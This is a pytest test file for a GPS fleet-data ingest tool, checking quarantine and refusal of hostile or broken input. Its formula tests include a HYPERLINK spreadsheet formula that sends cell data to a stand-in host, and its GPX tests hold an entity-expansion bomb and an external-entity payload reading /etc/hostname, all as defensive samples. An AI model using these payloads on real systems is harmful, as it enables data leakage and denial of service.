"""Ingest against hostile or broken input (issue 12): one transaction per command, implausible
times, spreadsheet formulas in ids, stray bytes in UTF-8 files, malformed lines streamed,
GPX with DTDs and large GPX files streamed."""
import hashlib
import json
import sqlite3
import tracemalloc
from datetime import datetime, timezone

import numpy as np
import pytest

from auditor.cli import main
from auditor.errors import UserError
from auditor.ingest.api import ingest_paths
from auditor.ingest.readers import open_source

HEADER = "vehicle_id,timestamp,lat,lon\n"


def rows(project, sql, *params):
    conn = sqlite3.connect(project)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def tables(project):
    """Every table's full contents: 'nothing changed' compared row by row."""
    conn = sqlite3.connect(project)
    try:
        names = [n for (n,) in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
        return {n: conn.execute(f'SELECT * FROM "{n}" ORDER BY 1').fetchall() for n in names}
    finally:
        conn.close()


def checkpointed_digest(project):
    conn = sqlite3.connect(project)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    return hashlib.sha256(project.read_bytes()).hexdigest()


def track(vehicle, n=5, start=1_772_438_400, step=60, lat=41.8, lon=-87.6):
    return "".join(f"{vehicle},{datetime.fromtimestamp(start + i * step, timezone.utc):%Y-%m-%dT%H:%M:%SZ},"
                   f"{lat + i * 0.0005:.6f},{lon}\n" for i in range(n))


# ------------------------------------------------------------------ one transaction per command
@pytest.fixture
def fleet(tmp_path):
    """A project with vehicles v1 (Chicago) and v3 (no timezone) and pings of both."""
    (tmp_path / "vehicles.csv").write_text("vehicle_id,timezone\nv1,America/Chicago\nv3,\n")
    (tmp_path / "old.csv").write_text(HEADER + track("v1") + track("v3", lat=41.9))
    project = tmp_path / "p.db"
    ingest_paths(project, [tmp_path / "vehicles.csv"])
    ingest_paths(project, [tmp_path / "old.csv"])
    return project


def test_a_failing_second_file_keeps_nothing_of_the_first(fleet, capsys):
    d = fleet.parent
    (d / "a.csv").write_text(HEADER + track("v1", start=1_772_600_000))
    (d / "b.csv").write_text(HEADER + track("v3", start=1_772_600_000, lat=41.9))
    before, digest = tables(fleet), checkpointed_digest(fleet)
    code = main(["ingest", str(fleet), str(d / "a.csv"), str(d / "b.csv"), "--ignore-offset"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 1 and len(err) == 1 and "b.csv" in err[0] and "v3 has no timezone" in err[0]
    assert tables(fleet) == before  # a.csv's pings and its import row are gone too
    assert checkpointed_digest(fleet) == digest


def test_replace_is_all_or_nothing_across_files(fleet):
    d = fleet.parent
    (d / "a.csv").write_text(HEADER + track("v1", start=1_772_600_000))
    (d / "b.csv").write_text(HEADER + track("v3", start=1_772_600_000, lat=41.9))
    before = tables(fleet)
    with pytest.raises(UserError, match="v3 has no timezone"):
        ingest_paths(fleet, [d / "a.csv", d / "b.csv"], ignore_offset=True, replace=True)
    assert tables(fleet) == before  # v1 was not replaced while v3 was not
    # and with every vehicle fine, both files are replaced in the one command
    [sa, sb] = ingest_paths(fleet, [d / "a.csv", d / "b.csv"], replace=True)
    assert (sa["replaced_vehicles"], sb["replaced_vehicles"]) == (1, 1)
    assert rows(fleet, "SELECT MIN(ts) FROM pings") == [(1_772_600_000,)]


def test_a_new_project_is_not_left_behind_by_a_failing_later_file(tmp_path):
    (tmp_path / "a.csv").write_text(HEADER + track("v1"))
    # fine in its first rows, naive times only further down: found while importing
    late = HEADER + track("v2", n=40) + "v2,2026-03-02 10:00:00,41.8,-87.6\n"
    (tmp_path / "b.csv").write_text(late)
    with pytest.raises(UserError, match="naive timestamps"):
        ingest_paths(tmp_path / "new.db", [tmp_path / "a.csv", tmp_path / "b.csv"],
                     chunk_rows=10)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "b.csv"]


def test_a_failing_import_removes_only_what_it_created(tmp_path):
    """The file was there before the command (an empty file the user made, to be the project):
    a failing import leaves it — only a file the call itself created is removed."""
    (tmp_path / "a.csv").write_text(HEADER + track("v1"))
    late = HEADER + track("v2", n=40) + "v2,2026-03-02 10:00:00,41.8,-87.6\n"
    (tmp_path / "b.csv").write_text(late)
    project = tmp_path / "mine.db"
    project.write_bytes(b"")
    with pytest.raises(UserError, match="naive timestamps"):
        ingest_paths(project, [tmp_path / "a.csv", tmp_path / "b.csv"], chunk_rows=10)
    assert project.is_file()
    assert rows(project, "SELECT COUNT(*) FROM pings") == [(0,)]  # nothing of the import kept
    # a project that exists is never removed either, nor are files beside a new one
    (tmp_path / "new.db-notes.txt").write_text("mine")
    with pytest.raises(UserError, match="naive timestamps"):
        ingest_paths(tmp_path / "new.db", [tmp_path / "a.csv", tmp_path / "b.csv"], chunk_rows=10)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "b.csv", "mine.db",
                                                          "new.db-notes.txt"]


def test_a_file_named_twice_in_one_command_is_imported_once(tmp_path):
    (tmp_path / "a.csv").write_text(HEADER + track("v1"))
    [first, again] = ingest_paths(tmp_path / "p.db", [tmp_path / "a.csv", tmp_path / "a.csv"])
    assert first["accepted"] == 5 and again["skipped"] and again["import_id"] == first["import_id"]


# ------------------------------------------------------------------ implausible timestamps
def test_pings_outside_the_default_window_are_quarantined(tmp_path):
    f = tmp_path / "p.csv"
    f.write_text(HEADER + "v1,1500-06-01T10:00:00Z,41.8,-87.6\n"
                 "v1,2026-03-02T10:00:00Z,41.8,-87.6\n"
                 "v1,2600-01-01T00:00:00Z,41.8,-87.6\n"
                 "v1,64060588800,41.8,-87.6\n"          # epoch seconds of the year 4000
                 "v1,1999-12-31T23:59:59Z,41.8,-87.6\n"
                 # (another vehicle's: v1's pings of 2026 would make it a reset clock's)
                 "v2,2000-01-01T00:00:00Z,41.8,-87.6\n")
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["reasons"] == {"implausible_timestamp": 4} and s["accepted"] == 2
    assert [q[0] for q in rows(tmp_path / "p.db", "SELECT line FROM quarantine ORDER BY line")] \
        == [2, 4, 5, 6]
    # no vehicle spans more than the data it has: the year-4000 ping is not there to stretch it
    span = datetime(2026, 3, 2, 10, tzinfo=timezone.utc) - datetime(2000, 1, 1, tzinfo=timezone.utc)
    assert rows(tmp_path / "p.db", "SELECT MAX(ts) - MIN(ts) FROM pings") == [
        (int(span.total_seconds()),)]


def test_tomorrow_is_plausible_next_week_is_not(tmp_path):
    now = int(datetime.now(timezone.utc).timestamp())
    f = tmp_path / "p.csv"
    f.write_text(HEADER + f"v1,{now + 3600},41.8,-87.6\nv1,{now + 7 * 86400},41.8,-87.6\n")
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["reasons"] == {"implausible_timestamp": 1} and s["accepted"] == 1


def test_the_window_is_set_per_import_and_joins_the_options_key(tmp_path, capsys):
    f = tmp_path / "p.csv"
    f.write_text(HEADER + "v1,1995-05-01T10:00:00Z,41.8,-87.6\nv1,2026-03-02T10:00:00Z,41.8,-87.6\n")
    project = tmp_path / "p.db"
    assert main(["ingest", str(project), str(f), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["reasons"] == {"implausible_timestamp": 1}
    # an archive of the nineties: a wider window is a new import, not a no-op repeat
    assert main(["ingest", str(project), str(f), "--min-time", "1990-01-01", "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert (out["skipped"], out["accepted"], out["reasons"]) == (False, 1, {"duplicate_ping": 1})
    assert rows(project, "SELECT COUNT(*) FROM pings") == [(2,)]
    key = json.loads(rows(project, "SELECT options_key FROM imports ORDER BY import_id DESC")[0][0])
    assert key["min_time"] == 631152000
    assert main(["ingest", str(project), str(f), "--max-time", "1990"]) == 1  # before min
    assert "--min-time" in capsys.readouterr().err
    assert main(["ingest", str(project), str(f), "--max-time", "soon"]) == 1
    assert "--max-time soon: not a time" in capsys.readouterr().err


def test_window_applies_to_times_ignore_offset_reads_again(fleet):
    d = fleet.parent
    # 2026-03-02T20:00 'UTC' is 2026-03-03T02:00 UTC once read as Chicago wall time
    (d / "late.csv").write_text(HEADER + "v1,2026-03-02T20:00:00Z,41.8,-87.6\n")
    [s] = ingest_paths(fleet, [d / "late.csv"], ignore_offset=True,
                       max_time="2026-03-03T00:00:00Z")
    assert s["reasons"] == {"implausible_timestamp": 1}


# ------------------------------------------------------------------ spreadsheet formulas
@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?"&A1,"x")', "+cmd", "@SUM(A1)",
                                   "-2+3", "=1+1"])
def test_formula_like_vehicle_ids_are_quarantined(tmp_path, value):
    f = tmp_path / "p.csv"
    quoted = '"' + value.replace('"', '""') + '"'
    f.write_text(HEADER + f"{quoted},1772438400,41.8,-87.6\nv1,1772438400,41.8,-87.6\n"
                 "-42,1772438400,41.8,-87.6\n")  # a plain number is no formula
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["reasons"] == {"formula_like_value": 1} and s["accepted"] == 2
    assert rows(tmp_path / "p.db", "SELECT vehicle_id FROM pings ORDER BY 1") == [("-42",), ("v1",)]
    assert rows(tmp_path / "p.db", "SELECT line, reason FROM quarantine") == [(2, "formula_like_value")]


def test_formula_like_labels_vehicle_metadata_ids_and_trip_ids(tmp_path):
    labels = tmp_path / "l.csv"
    labels.write_text("vehicle_id,label,lat,lon\n@v1,home,41.8,-87.6\nv1,=home,41.8,-87.6\n"
                      "v1,work,41.8,-87.6\n")
    [s] = ingest_paths(tmp_path / "p.db", [labels])
    assert s["reasons"] == {"formula_like_value": 2} and s["accepted"] == 1
    vehicles = tmp_path / "v.csv"
    vehicles.write_text("vehicle_id,fleet\n+v9,blue\nv1,red\n")
    [s] = ingest_paths(tmp_path / "p.db", [vehicles])
    assert s["reasons"] == {"formula_like_value": 1}
    pings = tmp_path / "p.csv"
    pings.write_text("vehicle_id,timestamp,lat,lon,trip_id\nv1,1772438400,41.8,-87.6,=t1\n"
                     "v1,1772438460,41.8,-87.6,t2\n")
    [s] = ingest_paths(tmp_path / "p.db", [pings])
    assert s["reasons"] == {"formula_like_value": 1}


# ------------------------------------------------------------------ encodings
def test_a_stray_byte_quarantines_its_line_not_the_files_encoding(tmp_path):
    body = [f"Müller-{i % 3},{1_772_438_400 + 60 * i},41.{8000 + i},-87.6\n" for i in range(30)]
    data = (HEADER + "".join(body[:10])).encode() + b"M\xfcller-9,1772440000,41.8,-87.6\n" \
        + "".join(body[10:]).encode()
    f = tmp_path / "p.csv"
    f.write_bytes(data)
    for chunk_rows in (7, 1000):
        project = tmp_path / f"p{chunk_rows}.db"
        [s] = ingest_paths(project, [f], chunk_rows=chunk_rows)
        assert (s["read"], s["accepted"], s["reasons"]) == (31, 30, {"bad_encoding": 1})
        assert rows(project, "SELECT DISTINCT vehicle_id FROM pings ORDER BY 1") == [
            ("Müller-0",), ("Müller-1",), ("Müller-2",)]  # UTF-8, not mojibake
        assert rows(project, "SELECT line, raw, reason FROM quarantine") == [
            (12, "M\ufffdller-9,1772440000,41.8,-87.6", "bad_encoding")]


def test_bad_lines_malformed_lines_and_line_numbers_together(tmp_path):
    lines = [HEADER.strip().encode()]
    expect = []
    for i in range(3000):
        if i % 401 == 7:
            lines.append(f"v{i % 5},{1_772_438_400 + 60 * i},41.8,-87.6,extra".encode())
            expect.append((len(lines), "malformed_row"))
        elif i % 503 == 11:
            lines.append(f"caf\xe9-{i},{1_772_438_400 + 60 * i},41.8,-87.6".encode("latin-1"))
            expect.append((len(lines), "bad_encoding"))
        elif i % 97 == 3:
            lines.append(b"")
        else:
            lines.append(f"café-{i % 5},{1_772_438_400 + 60 * i},41.{8000 + i % 700},-87.6"
                         .encode())
    f = tmp_path / "p.csv"
    f.write_bytes(b"\r\n".join(lines) + b"\r\n")
    [s] = ingest_paths(tmp_path / "p.db", [f], chunk_rows=250)
    got = rows(tmp_path / "p.db", "SELECT line, reason FROM quarantine ORDER BY line")
    assert got == expect
    assert s["accepted"] + s["quarantined"] == s["read"]
    assert rows(tmp_path / "p.db", "SELECT COUNT(*) FROM pings WHERE vehicle_id LIKE 'café-%'") \
        == [(s["accepted"],)]


def test_a_latin1_file_is_still_read_as_latin1(tmp_path):
    f = tmp_path / "p.csv"
    f.write_bytes((HEADER + "Köln-1,1772438400,50.9,6.9\nMünchen-2,1772438400,48.1,11.6\n")
                  .encode("latin-1"))
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["accepted"] == 2
    assert rows(tmp_path / "p.db", "SELECT vehicle_id FROM pings ORDER BY 1") == [
        ("Köln-1",), ("München-2",)]


def test_a_shift_jis_export_with_japanese_headers_reads_as_japanese(tmp_path):
    """Japanese Excel saves CSV in Shift-JIS (cp932). Read as latin-1, its headers and plate
    ids were mojibake: no column found, and ids that match no UTF-8 labels file."""
    plates = ["品川 300 あ 12-34", "練馬 500 さ 56-78", "4711"]
    lines = ["車両番号,日時,緯度,経度,速度(km/h)"]
    for i in range(600):  # past the 64 KB head and the survey's first block: whole file
        lines.append(f"{plates[i % 3]},2026/04/29 08:{i // 60 % 60:02d}:{i % 60:02d},"
                     f"35.{600000 + 7 * i},139.{700000 + 5 * i},{18.0 + i % 7}")
    f = tmp_path / "車両.csv"
    f.write_bytes(("\r\n".join(lines) + "\r\n").encode("cp932"))
    (tmp_path / "labels.csv").write_text(
        "vehicle_id,label,lat,lon\n品川 300 あ 12-34,home,35.6,139.7\n", encoding="utf-8")
    [s, lab] = ingest_paths(tmp_path / "p.db", [f, tmp_path / "labels.csv"], tz="Asia/Tokyo")
    assert (s["kind"], s["accepted"], s["quarantined"]) == ("pings", 600, 0)
    assert rows(tmp_path / "p.db", "SELECT vehicle_id, COUNT(*) FROM pings GROUP BY 1 ORDER BY 1") \
        == sorted((p, 200) for p in plates)
    # naive Tokyo time: 08:00:00 JST on 29 April is 23:00 UTC on the 28th
    assert rows(tmp_path / "p.db", "SELECT MIN(ts) FROM pings") == [
        (int(datetime(2026, 4, 28, 23, tzinfo=timezone.utc).timestamp()),)]
    assert rows(tmp_path / "p.db", "SELECT vehicle_id FROM labels") == [(plates[0],)]


def test_western_latin1_capitals_are_not_taken_for_shift_jis(tmp_path):
    """Latin-1 capitals (0xC0-0xDE) are half-width katakana in Shift-JIS, and 'é' + a letter a
    rare kanji: such a file decodes as Shift-JIS but does not read as Japanese."""
    f = tmp_path / "v.csv"
    f.write_bytes("vehicle_id;city;driver\nÉCOLE-1;ÎLE DE FRANCE;ÀÉÎÕÜ\nv2;Dümmersee;Stéphane\n"
                  .encode("latin-1"))
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["accepted"] == 2
    assert rows(tmp_path / "p.db", "SELECT vehicle_id FROM vehicles ORDER BY 1") == [
        ("v2",), ("ÉCOLE-1",)]


def test_a_gbk_export_with_a_report_title_above_its_header_reads_as_chinese(tmp_path):
    """A Chinese platform's export: GBK (GB18030 reads it), a report title on line 1 and the
    header on line 2. Before: read as latin-1 with the title as its header ('cannot tell
    pings, labels or vehicles apart', columns named '³µÁ¾…' and column_2…)."""
    plates = ["粤B3K7Q2", "湘D62731"]
    lines = ["车辆历史轨迹明细（查询时段：2025/1/13 0:00:00 至 2025/1/14 23:59:59）,,,,,",
             "序号,车牌号,定位时间,经度,纬度,速度(km/h)"]
    for i in range(600):  # past the 64 KB head: the whole file is decoded
        lines.append(f"{i + 1},{plates[i % 2]},2025/1/13 8:{i // 60 % 60:02d}:{i % 60:02d},"
                     f"113.{893126 + 5 * i},22.{525454 + 7 * i},{18.0 + i % 7}")
    f = tmp_path / "轨迹.csv"
    f.write_bytes(("\r\n".join(lines) + "\r\n").encode("gbk"))
    [s] = ingest_paths(tmp_path / "p.db", [f], tz="Asia/Shanghai")
    assert (s["kind"], s["accepted"], s["quarantined"]) == ("pings", 600, 0)
    assert rows(tmp_path / "p.db", "SELECT vehicle_id, COUNT(*) FROM pings GROUP BY 1 ORDER BY 1") \
        == sorted((p, 300) for p in plates)
    assert rows(tmp_path / "p.db", "SELECT MIN(ts) FROM pings") == [  # 08:00 Beijing = 00:00 UTC
        (int(datetime(2025, 1, 13, 0, tzinfo=timezone.utc).timestamp()),)]
    # a refused row is named by its line in the file (the title and header are lines 1-2)
    bad = lines[:7] + [lines[7].replace("2025/1/13", "2025/1/99")] + lines[8:]
    f.write_bytes(("\r\n".join(bad) + "\r\n").encode("gbk"))
    ingest_paths(tmp_path / "q.db", [f], tz="Asia/Shanghai")
    assert rows(tmp_path / "q.db", "SELECT line, reason FROM quarantine") == [(8, "bad_timestamp")]


def test_a_windows_1251_export_with_russian_headers_reads_as_russian(tmp_path):
    """A Russian-speaking platform's export from Windows (cp1251): Cyrillic headers and plates.
    Before: latin-1 mojibake ('Ãîñíîìåð'), no column found."""
    plates = ["А123ВС 55", "123 ABC 02"]
    lines = ["Госномер;Время;Широта;Долгота;Скорость (км/ч);Водитель"]
    for i in range(600):
        lines.append(f"{plates[i % 2]};13.02.2024 08:{i // 60 % 60:02d}:{i % 60:02d};"
                     f"43,{221000 + 7 * i};76,{843000 + 5 * i};{18 + i % 7};Иванов Пётр")
    f = tmp_path / "отчёт.csv"
    f.write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1251"))
    [s] = ingest_paths(tmp_path / "p.db", [f], tz="Asia/Almaty")
    assert (s["kind"], s["accepted"], s["quarantined"]) == ("pings", 600, 0)
    assert rows(tmp_path / "p.db", "SELECT vehicle_id, COUNT(*) FROM pings GROUP BY 1 ORDER BY 1") \
        == sorted((p, 300) for p in plates)


def test_western_words_with_accents_are_not_taken_for_cyrillic_or_chinese(tmp_path):
    """Every latin-1 letter with an accent is a Cyrillic letter in cp1251 and most pairs of
    them a hanzi in GB18030: a Western file decodes both ways, and reads as neither."""
    f = tmp_path / "v.csv"
    f.write_bytes(("vehicle_id;ville;conducteur\n" + "".join(
        f"v{i};Orléans-Saint-Éloi;François Müller-Lüdenscheid, São João, Señora Peña\n"
        for i in range(300))).encode("latin-1"))
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["accepted"] == 300
    [(meta,)] = rows(tmp_path / "p.db", "SELECT meta FROM vehicles WHERE vehicle_id = 'v7'")
    assert json.loads(meta) == {"ville": "Orléans-Saint-Éloi", "conducteur":
                                "François Müller-Lüdenscheid, São João, Señora Peña"}


# (codec, vehicle ids in that language's letters, another column of its words)
CODE_PAGES = {
    "cp1250": (["Łódź Żółw 1", "Kraków Ślęża 2"], "Jiří Dvořák, Žďár nad Sázavou, Plzeň"),
    "cp1251": (["Госномер А123ВС", "Объект Б456"], "Иванов Иван Петрович, Алматы"),
    "cp1253": (["ΙΚΥ Αθήνα 1", "ΖΗΡ Πάτρα 2"], "Γιώργος Παπαδόπουλος, Θεσσαλονίκη"),
    "cp1254": (["Şişli Ağaç 1", "Kadıköy Işık 2"], "Ahmet Yılmaz, Gaziosmanpaşa, İzmir"),
    "cp1255": (["משאית תל אביב 1", "רכב חיפה 2"], "משה כהן, ירושלים"),
    "cp1256": (["شاحنة الرياض 1", "سيارة جدة 2"], "محمد عبد الله، الدمام"),
    "latin-1": (["Orléans-1", "São João-2"], "François Müller-Lüdenscheid, Señora Peña"),
}


@pytest.mark.parametrize("codec", sorted(CODE_PAGES))
def test_a_windows_code_page_export_is_read_in_its_own_letters(tmp_path, codec):
    """Central European, Cyrillic, Greek, Turkish, Hebrew, Arabic and Western Windows exports:
    every byte above 0x7F is a letter in most code pages, so a file read in the wrong one is
    mojibake of letters (Greek read as Cyrillic, Polish as latin-1 symbols). Each is read in
    its own; a labels file in UTF-8 names the same vehicles."""
    ids, words = CODE_PAGES[codec]
    lines = ["vehicle_id;timestamp;lat;lon;note"]
    for i in range(400):
        lines.append(f"{ids[i % 2]};{1_772_438_400 + 60 * i};50,{100 + i};19,9;{words}")
    (tmp_path / "p.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode(codec))
    (tmp_path / "labels.csv").write_text(f"vehicle_id,label,lat,lon\n{ids[1]},home,50.1,19.9\n",
                                         encoding="utf-8")
    [s, lab] = ingest_paths(tmp_path / "p.db", [tmp_path / "p.csv", tmp_path / "labels.csv"])
    assert s["accepted"] == 400
    assert rows(tmp_path / "p.db", "SELECT vehicle_id, COUNT(*) FROM pings GROUP BY 1 "
                                   "ORDER BY 1") == sorted((v, 200) for v in ids)
    assert rows(tmp_path / "p.db", "SELECT COUNT(*) FROM labels WHERE vehicle_id IN "
                                   "(SELECT vehicle_id FROM pings)") == [(1,)]


def test_a_polish_report_with_key_and_value_lines_above_its_header(tmp_path):
    """'Raport;Historia położenia pojazdów', 'Okres;14.10.2024 - 10.11.2024', a blank line,
    then the header: a key and its value are title lines too; refused rows keep their line."""
    lines = ["Raport;Historia położenia pojazdów", "Okres;14.10.2024 - 10.11.2024",
             "Wygenerowano;11.11.2024 08:12", "",
             "Nr rejestracyjny;Kierowca;Data;Godzina;Szerokość;Długość;Prędkość [km/h]"]
    for i in range(30):
        lines.append(f"WA 1234{i % 2};Żaneta Kozłowska;14.10.2024;08:{i:02d}:00;52,{2000 + i};"
                     f"21,0;{30 + i}")
    lines.insert(10, "WA 12341;Żaneta Kozłowska;14.10.2024;nie;52,2;21,0;0")  # line 11
    (tmp_path / "r.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1250"))
    [s] = ingest_paths(tmp_path / "p.db", [tmp_path / "r.csv"], tz="Europe/Warsaw")
    assert (s["accepted"], s["quarantined"]) == (30, 1)
    assert rows(tmp_path / "p.db", "SELECT line FROM quarantine") == [(11,)]
    assert rows(tmp_path / "p.db", "SELECT MIN(ts) FROM pings") == [
        (int(datetime(2024, 10, 14, 6, tzinfo=timezone.utc).timestamp()),)]


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_text_with_or_without_its_mark_is_read_as_the_same_rows(tmp_path, codec):
    """Excel's "Unicode Text" is UTF-16 (with a byte-order mark, tab-separated); some tools
    write it without the mark. Its rows, and the line a bad row is on, are the UTF-8 file's."""
    lines = ["Fahrzeug\tZeitstempel\tBreite\tLänge"]
    lines += [f"Köln-{i % 2}\t2026-03-02T08:{i:02d}:00+01:00\t50.9{i:02d}\t6.9" for i in range(40)]
    lines.insert(12, "Köln-1\tnicht\t50.9\t6.9")  # line 13
    text = "\r\n".join(lines) + "\r\n"
    (tmp_path / "utf8.csv").write_text(text, encoding="utf-8")
    (tmp_path / "wide.txt").write_bytes(text.encode(codec))
    [a] = ingest_paths(tmp_path / "a.db", [tmp_path / "utf8.csv"])
    [b] = ingest_paths(tmp_path / "b.db", [tmp_path / "wide.txt"])
    assert (b["accepted"], b["quarantined"]) == (a["accepted"], a["quarantined"]) == (40, 1)
    query = "SELECT vehicle_id, ts, lat, lon FROM pings ORDER BY ping_id"
    assert rows(tmp_path / "b.db", query) == rows(tmp_path / "a.db", query)
    assert rows(tmp_path / "b.db", "SELECT line, raw FROM quarantine") == [
        (13, "Köln-1\tnicht\t50.9\t6.9")]


def test_an_epoch_column_named_with_its_unit_is_the_timestamp(tmp_path):
    f = tmp_path / "p.csv"
    f.write_text("device_id,timestamp_us,lat,lon\n" + "".join(
        f"d1,{(1_772_438_400 + 60 * i) * 1_000_000},50.9,6.9\n" for i in range(5)))
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["accepted"] == 5
    assert rows(tmp_path / "p.db", "SELECT MIN(ts), MAX(ts) FROM pings") == [
        (1_772_438_400, 1_772_438_400 + 240)]


# ------------------------------------------------------------------ malformed lines streamed
def _held_by(snapshot, module: str) -> int:
    """Bytes still allocated by code in ``module`` (e.g. the reader's copies of line text)."""
    return sum(stat.size for stat in snapshot.statistics("filename")
               if stat.traceback[0].filename.endswith(module))


def test_malformed_lines_are_not_collected_for_the_whole_file(tmp_path):
    """~40 MB of malformed lines: the reader hands them out with their chunk and forgets them."""
    junk = "x" * 180
    body = "".join(f"v1,{1_772_438_400 + i},41.8,-87.6,{junk}\n" if i % 2 else
                   f"v1,{1_772_438_400 + i},41.8,-87.6\n" for i in range(400_000))
    f = tmp_path / "p.csv"
    f.write_text(HEADER + body)
    source = open_source(f)
    next(iter(source.chunks(10)))  # imports done before measuring
    n_rejected, held = 0, []
    tracemalloc.start()
    try:
        for i, chunk in enumerate(source.chunks(5_000)):
            n_rejected += len(chunk.rejected)
            if i in (10, 30):
                del chunk
                held.append(_held_by(tracemalloc.take_snapshot(), "readers.py"))
    finally:
        tracemalloc.stop()
    assert n_rejected == 200_000
    # a block's worth is pending at any time, not every malformed line seen so far (~13 and
    # ~33 MB at those two points)
    assert max(held) < 4 * 2**20, held


# ------------------------------------------------------------------ GPX
BOMB = """<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<gpx version="1.1"><trk><name>&c;</name><trkseg>
<trkpt lat="52.5" lon="13.4"><time>2024-01-01T10:00:00Z</time></trkpt></trkseg></trk></gpx>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
<gpx version="1.1"><trk><name>&secret;</name><trkseg>
<trkpt lat="52.5" lon="13.4"><time>2024-01-01T10:00:00Z</time></trkpt></trkseg></trk></gpx>
"""


@pytest.mark.parametrize("text", [BOMB, EXTERNAL, BOMB.encode("utf-16").decode("latin-1")],
                         ids=["entity-bomb", "external-entity", "utf-16"])
def test_gpx_with_a_dtd_is_refused_and_the_project_untouched(tmp_path, text):
    f = tmp_path / "evil.gpx"
    f.write_bytes(text.encode("latin-1") if text.startswith("\xff") else text.encode())
    project = tmp_path / "p.db"
    ingest_paths(project, [_gpx(tmp_path / "ok.gpx", 3)])
    digest = checkpointed_digest(project)
    with pytest.raises(UserError, match="DOCTYPE or ENTITY|not a readable GPX"):
        ingest_paths(project, [f])
    assert checkpointed_digest(project) == digest


def _gpx(path, n, name="truck-7", ns_prefix=""):
    p = ns_prefix
    pts = "".join(f'<{p}trkpt lat="{52.5 + i * 1e-4:.5f}" lon="13.4"><{p}time>'
                  f"{datetime.fromtimestamp(1_704_103_200 + 5 * i, timezone.utc):%Y-%m-%dT%H:%M:%SZ}"
                  f"</{p}time><{p}speed>{i % 20}.5</{p}speed></{p}trkpt>\n" for i in range(n))
    xmlns = f'xmlns:{p[:-1]}="http://www.topografix.com/GPX/1/0"' if p else \
        'xmlns="http://www.topografix.com/GPX/1/0"'
    path.write_text(f'<?xml version="1.0" encoding="UTF-8"?>\n<{p}gpx version="1.0" {xmlns}>'
                    f"<{p}trk><{p}name>{name}</{p}name><{p}trkseg>\n{pts}</{p}trkseg></{p}trk>"
                    f"</{p}gpx>\n")
    return path


def test_large_gpx_is_streamed_in_chunks(tmp_path):
    f = _gpx(tmp_path / "big.gpx", 60_000)
    assert f.stat().st_size > 5 * 2**20
    small = open_source(_gpx(tmp_path / "small.gpx", 3))
    next(iter(small.chunks(10)))  # imports done before measuring
    tracemalloc.start()
    sizes = []
    try:
        for chunk in open_source(f).chunks(2_000):
            sizes.append(chunk.table.num_rows)
            assert chunk.lines[0] == sum(sizes[:-1]) + 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sum(sizes) == 60_000 and max(sizes) == 2_000
    assert peak < 3 * 2**20, peak  # the whole document would be far more


def test_gpx_speed_and_prefixed_names(tmp_path):
    f = _gpx(tmp_path / "pref.gpx", 4, name="van 1", ns_prefix="g:")
    [s] = ingest_paths(tmp_path / "p.db", [f])
    assert s["accepted"] == 4
    assert rows(tmp_path / "p.db", "SELECT vehicle_id, speed_mps, trip_id FROM pings ORDER BY ts")[:2] \
        == [("van 1", 0.5, "track1.segment1"), ("van 1", 1.5, "track1.segment1")]


@pytest.mark.parametrize("stamps, says", [
    # 2026-03-02 and 03 as a spreadsheet's whole serial days, read as seconds since 1970 (with
    # a time of day, a fraction, they are read: test_time_formats)
    (["46083", "46084"], "dated 1970-01-01, outside the import's window 2000-01-01 to"),
    (["315964800", "315964810"], "1980-01-06 is where a GPS receiver's clock starts"),
    (["1995-05-01T10:00:00Z", "1995-05-03T10:00:00Z"], "dated 1995-05-01 to 1995-05-03, "
                                                       "outside the import's window"),
])
def test_a_file_outside_the_time_window_is_told_when_it_lies(stamps, says, tmp_path, capsys):
    """'pass --min-time if these dates are real' was all a file of spreadsheet serial days was
    told (every row quarantined as 1970): the fix now says when the stamps lie and, where that
    says what they are, what to do."""
    f = tmp_path / "p.csv"
    f.write_text(HEADER + "".join(f"v1,{s},41.8,-87.6\n" for s in stamps))
    assert main(["ingest", str(tmp_path / "p.db"), str(f)]) == 0
    out = capsys.readouterr().out
    assert "implausible_timestamp: 2 — most of the file" in out and says in out
    spreadsheet = "spreadsheet's serial days" in out
    assert spreadsheet == stamps[0].startswith("46083")
    assert ("--min-time" in out) == stamps[0].startswith("1995")


@pytest.mark.parametrize("rows, says", [
    # a tracker's integer format: degrees x 1e7
    (["419122610,-876992120", "419122700,-876992000"], "divide both columns by 10,000,000"),
    (["41912261,-87699212", "41912270,-87699200"], "divide both columns by 1,000,000"),
    # Berlin in UTM zone 33N metres
    (["5810000.5,390000.2", "5810100.0,390050.0"], "look like UTM eastings and northings"),
    # lon before lat, east of 90 E (Jakarta's lon 106.8 cannot be a lat)
    (["106.8456,-6.2088", "106.8460,-6.2090"], "lat and lon look swapped"),
])
def test_coordinates_out_of_range_are_told_what_they_look_like(rows, says, tmp_path, capsys):
    """'swapped, or scaled (E7)? --map them or rescale' was all any file of coordinates out of
    range was told: the fix now says which, from the values (the factor to divide by)."""
    f = tmp_path / "p.csv"
    f.write_text(HEADER + "".join(f"v1,2026-03-02T10:0{i}:00Z,{r}\n" for i, r in enumerate(rows)))
